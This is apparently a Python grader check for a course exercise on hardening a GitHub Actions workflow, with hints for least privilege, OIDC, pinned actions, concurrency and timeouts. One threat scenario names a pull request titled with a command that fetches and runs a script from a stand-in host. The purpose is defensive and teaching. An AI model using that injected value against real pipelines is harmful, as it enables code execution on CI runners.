"""The row of the workflow for GitHub: its reactions, and what else it does when things go wrong."""

from collections.abc import Iterator
from functools import partial

from grader.checks.case import Case, Rng
from grader.checks.registry import exercise
from grader.checks.student import Student
from grader.checks.vocabulary import holds
from lmcourse.checks.pipelines import github as lesson
from lmcourse.checks.pipelines.situations import Trial, situations
from lmcourse.checks.project.reactions import reactions

FILE = lesson.FILE
LOOKS = (
    (
        "a test is poisoned, and takes the job's token",
        lesson.few_rights,
        "permissions: {} at the top, and in each job what it needs.",
    ),
    (
        "somebody copies all stored secrets",
        lesson.no_stored_key,
        "With OIDC there is nothing to keep: no secrets. in any expression.",
    ),
    (
        "an action's tag is moved to a stolen version",
        lesson.pinned,
        "uses: with the commit, 40 hex digits.",
    ),
    (
        "a pull request is called $(curl evil.test | sh)",
        lesson.no_names_in_scripts,
        "No ${{ }} within run: put it below env:.",
    ),
    (
        "two changes within a minute",
        lesson.one_at_a_time,
        "concurrency: at the job of production, with cancel-in-progress: false.",
    ),
    ("a training never ends", lesson.ends, "timeout-minutes: in each job, 120 at most."),
)
"""What happens, what looks whether the workflow is ready for it, and what to do if it is not."""


@exercise("project", "github", points=16, names=("read",))
def github(repository: Student, reference: Student, rng: Rng) -> Iterator[Case]:
    every = situations(rng)
    trial = Trial(lesson.simulated, every[0])
    yield from reactions(repository, trial, every, FILE, lesson.HINTS)

    def ready(look: lesson.Look) -> str:
        text = repository.read(FILE)
        return trial.missing(text) or look(lesson.read(text), trial.called(text))

    for name, look, hint in LOOKS:
        yield holds(name, "the workflow is ready for it", partial(ready, look), hint=hint)
